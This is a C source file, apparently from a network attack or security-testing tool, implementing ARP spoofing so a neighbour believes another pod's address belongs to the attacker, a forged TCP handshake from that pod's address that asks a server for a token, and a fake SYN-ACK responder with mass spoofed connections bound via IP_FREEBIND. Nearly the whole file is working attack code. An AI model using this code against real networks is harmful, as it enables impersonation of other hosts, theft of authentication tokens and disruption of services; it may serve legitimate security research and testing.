#include "segment.h"

#include <arpa/inet.h>
#include <errno.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netinet/ip.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define SEQUENCE 555000

/* Has the neighbour believe that `source` is at our hardware address: a request
 * from it is believed at once (RFC 826), a reply is not.
 */
static void spoof(const char *interface, const uint8_t hop[8], struct target source,
		  struct target target)
{
	int fd = open_link(interface, ETHERTYPE_ARP);
	struct ether_arp arp = { .ea_hdr = { .ar_hrd = htons(ARPHRD_ETHER), .ar_pro = htons(ETHERTYPE_IP),
					     .ar_hln = 6, .ar_pln = 4, .ar_op = htons(ARPOP_REQUEST) } };
	struct ifreq request = { .ifr_flags = 0 };

	strncpy(request.ifr_name, interface, sizeof(request.ifr_name) - 1);
	if (ioctl(fd, SIOCGIFHWADDR, &request) < 0)
		broken("hardware address", errno);
	memcpy(arp.arp_sha, request.ifr_hwaddr.sa_data, 6);
	memcpy(arp.arp_spa, &source.v4.sin_addr, 4);
	memcpy(arp.arp_tpa, &target.v4.sin_addr, 4);
	send_frame(fd, interface, hop, ETHERTYPE_ARP, &arp, sizeof(arp));
	close(fd);
}

/* The next segment from there: 0 if none came in time. */
static int next(int fd, struct target source, struct target target, struct segment *segment,
		uint8_t *bytes, size_t size)
{
	long end = now_ms() + PATIENCE_MS;

	do {
		if (wait_readable(fd, 50) &&
		    read_segment(bytes, recv(fd, bytes, size, 0), source, target, segment))
			return 1;
	} while (now_ms() < end);
	return 0;
}

/* INTERFACE NEXT-HOP SOURCE PORT ADDRESS PORT: a TCP of our own from another pod's address,
 * which the next hop is made to believe is ours, to a server; asks for a token.
 */
void attack_handshake(char **argument)
{
	struct target source = parse_target(argument[2], argument[3]);
	struct target target = parse_target(argument[4], argument[5]);
	int fd = open_link(argument[0], ETHERTYPE_IP);
	struct segment segment;
	struct packet packet;
	uint8_t bytes[2048], hop[8];
	uint32_t peer;

	parse_hardware(argument[1], hop);
	spoof(argument[0], hop, source, target);
	packet = make_segment(source, target, TH_SYN, SEQUENCE, 0, "");
	send_frame(fd, argument[0], hop, ETHERTYPE_IP, packet.bytes, packet.length);
	do {
		if (!next(fd, source, target, &segment, bytes, sizeof(bytes))) {
			printf("SYN sent, no answer\n");
			return;
		}
		if (segment.tcp.rst) {
			printf("SYN sent, reset\n");
			return;
		}
	} while (!segment.tcp.syn);
	peer = ntohl(segment.tcp.seq) + 1;
	packet = make_segment(source, target, TH_ACK | TH_PUSH, SEQUENCE + 1, peer, token_request);
	send_frame(fd, argument[0], hop, ETHERTYPE_IP, packet.bytes, packet.length);
	while (next(fd, source, target, &segment, bytes, sizeof(bytes) - 1)) {
		const struct iphdr *ip = (const struct iphdr *)bytes;

		if (segment.tcp.rst) {
			printf("connected, asked, reset\n");
			return;
		}
		if (segment.payload) {
			bytes[ntohs(ip->tot_len)] = 0;
			printf("answered: %s\n",
			       (char *)bytes + ntohs(ip->tot_len) - segment.payload);
			return;
		}
		if (segment.tcp.fin) {
			printf("connected, asked, closed\n");
			return;
		}
	}
	printf("connected, asked, no answer\n");
}

/* Completes the handshake of every client that connects through the interface, with sequence
 * numbers of its own choice.
 */
static void *serve_falsely(void *interface)
{
	int fd = open_link(interface, ETHERTYPE_IP);
	uint8_t bytes[2048];
	uint8_t to[8] = { 2, 0, 0, 0, 0, 1 };
	uint32_t guess = (uint32_t)now_ms();

	for (;;) {
		ssize_t length = recv(fd, bytes, sizeof(bytes), 0);
		struct target client = { .length = sizeof(client.v4) }, server = client;
		struct iphdr ip;
		struct tcphdr tcp;
		struct packet packet;

		if (length < 40)
			continue;
		memcpy(&ip, bytes, sizeof(ip));
		memcpy(&tcp, bytes + ip.ihl * 4u, sizeof(tcp));
		if (!tcp.syn || tcp.ack)
			continue;
		client.v4 = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = tcp.source,
						  .sin_addr.s_addr = ip.saddr };
		server.v4 = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = tcp.dest,
						  .sin_addr.s_addr = ip.daddr };
		packet = make_segment(server, client, TH_SYN | TH_ACK, guess++, ntohl(tcp.seq) + 1, "");
		send_frame(fd, interface, to, ETHERTYPE_IP, packet.bytes, packet.length);
	}
	return NULL;
}

/* INTERFACE SOURCE ADDRESS PORT COUNT SECONDS: connects from another pod's address and every
 * source port in turn to a server of our own behind the interface, and stays connected:
 * as many claims under keys that we chose half of.
 */
void attack_plant(char **argument)
{
	struct target source = parse_target(argument[1], "0");
	struct target target = parse_target(argument[2], argument[3]);
	long count = atol(argument[4]), planted = 0;
	pthread_t thread;

	allow_many_files();
	if (pthread_create(&thread, NULL, serve_falsely, argument[0]))
		broken("thread", errno);
	poll(NULL, 0, 50);
	for (long i = 0; i < count; i++) {
		int fd = make_stream(AF_INET, 0);
		int on = 1;

		setsockopt(fd, SOL_IP, IP_FREEBIND, &on, sizeof(on));
		source.v4.sin_port = htons((uint16_t)(32768 + i));
		if (bind(fd, &source.any, source.length) < 0)
			broken("bind", errno);
		if (connect(fd, &target.any, target.length) < 0) {
			if (!planted)
				fail("connect", errno);
			break;
		}
		planted++;
	}
	printf("%ld connections to a server of its own\n", planted);
	fprintf(stderr, "planted\n");
	poll(NULL, 0, atoi(argument[5]) * 1000);
}
